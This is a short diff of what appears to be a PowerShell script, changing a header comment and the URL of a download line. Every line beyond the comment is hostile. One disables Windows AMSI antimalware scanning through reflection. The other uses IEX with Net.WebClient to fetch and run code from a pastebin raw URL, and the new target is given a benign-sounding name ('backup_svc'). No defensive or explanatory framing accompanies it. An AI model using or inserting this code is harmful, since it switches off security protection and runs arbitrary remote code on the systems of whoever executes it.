@@ -1,3 +1,3 @@
-# bootstrap 2172 v1
+# task 3285 v1
 [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
-IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/sysadm')
+IEX (New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/backup_svc')
